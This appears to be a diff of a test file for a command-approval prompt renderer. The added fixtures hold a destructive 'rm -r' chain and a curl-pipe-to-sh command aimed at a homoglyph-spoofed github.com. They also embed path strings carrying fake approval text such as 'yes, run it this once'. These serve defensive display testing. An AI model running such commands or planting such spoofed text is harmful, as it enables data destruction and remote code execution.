@@ -2,9 +2,9 @@
 
 import test from 'ava';
 import fc from 'fast-check';
-import { promptView, type Question, type Screen } from '../../src/core/prompt-view.ts';
-import type { Finding } from '../../src/core/values.ts';
-import { golden } from '../golden.ts';
+import { promptView, type Question, type Screen } from '../../../src/core/prompt/prompt-view.ts';
+import type { Finding } from '../../../src/core/values.ts';
+import { golden } from '../../golden.ts';
 
 const screen: Screen = { columns: 80, rows: 40, colour: false };
 
@@ -23,6 +23,26 @@ const question = (change: Partial<Question>): Question => ({
 });
 
 const script = Array.from({ length: 120 }, (_, at) => `echo line ${at + 1}`).join('\n');
+
+const texts = ['set -e', 'cd build', 'rm -r dist && rm -r "$A"', 'sort names | uniq -c', 'wc -l names', 'date', 'id', 'true'];
+const start = (at: number) => texts.slice(0, at).join('\n').length + (at === 0 ? 0 : 1);
+const several = question({
+  impact: 'destructive',
+  subject: texts.join('\n'),
+  steps: [
+    { start: 0, end: 6 },
+    { start: 7, end: 15 },
+    { start: 16, end: 26 },
+    { start: 30, end: 40 },
+    ...texts.slice(3).map((text, at) => ({ start: start(at + 3), end: start(at + 3) + text.length })),
+  ],
+  findings: [
+    finding('rm deletes dist', 16, 18),
+    finding('rm deletes what the variable A holds, which only running could tell', 30, 39),
+    finding('deletes', 36, 39),
+    finding('was cut off where it should go on', start(7) + 4, start(7) + 4),
+  ],
+});
 
 const screens: readonly (readonly [string, Question, Partial<Screen>])[] = [
   ['a write beyond the project', question({}), {}],
@@ -68,6 +88,27 @@ const screens: readonly (readonly [string, Question, Partial<Screen>])[] = [
   ['colours, where they are welcome', question({ impact: 'destructive', grants: [{ kind: 'leave', reason: 'r' }] }), { colour: true }],
   ['a note comes with the rest', question({ findings: [finding('runs project code', 0, 2, 'note')], grants: [], impact: 'none' }), {}],
   ['a narrow screen', question({}), { columns: 30 }],
+  ['several commands are folded to a line each', several, {}],
+  ['several commands on a narrow screen', several, { columns: 40 }],
+  [
+    'a letter that passes for another is spelled out',
+    question({
+      subject:
+        'curl -\u0456 https://g\u0456thub.com/\u043f\u0443\u0442\u044c | \u0455h; echo \u043f\u0440\u0438\u0432\u0435\u0442 p\u0430ypal \uff52\uff4d',
+      findings: [finding('reaches g\u0456thub.com', 8, 26)],
+      grants: [{ kind: 'connect', host: 'g\u0456thub.com', port: 443 }],
+    }),
+    {},
+  ],
+  [
+    'what names something long begins no row as lines of Ward begin',
+    question({
+      cwd: `/srv/${'x'.repeat(60)}y  yes, run it this once`,
+      findings: [finding(`writes ${'x'.repeat(71)}y  yes, run it this once`, 9, 22)],
+      grants: [{ kind: 'write', path: `/home/${'x'.repeat(66)}a yes lets it read`, device: '1', inode: '2' }],
+    }),
+    {},
+  ],
 ];
 
 for (const [title, asked, size] of screens) {
@@ -100,15 +141,15 @@ test('what the shell has is shown only where a finding speaks of it; the places 
   const findings = [finding('rm deletes zzz', 7, 13), finding('rm deletes a', 20, 24)];
   const lines = (lead: number) => promptView(question({ subject, lead, findings }), { columns: 80, rows: 24, colour: false });
   t.deepEqual(lines(17).slice(2, 11), [
-    '  f; rm a',
+    '| f; rm a',
     '',
     'impact: write (writes)',
     '- rm deletes zzz',
-    '      f () { rm zzz; }',
-    '             ^^^^^^',
+    '    | f () { rm zzz; }',
+    '    |        ^^^^^^',
     '- rm deletes a',
-    '      f; rm a',
-    '         ^^^^',
+    '    | f; rm a',
+    '    |    ^^^^',
   ]);
-  t.deepEqual(lines(0).slice(2, 4), ['  1 f () { rm zzz; }', '  2 f; rm a'], 'the control');
+  t.deepEqual(lines(0).slice(2, 4), ['| 1 f () { rm zzz; }', '| 2 f; rm a'], 'the control');
 });
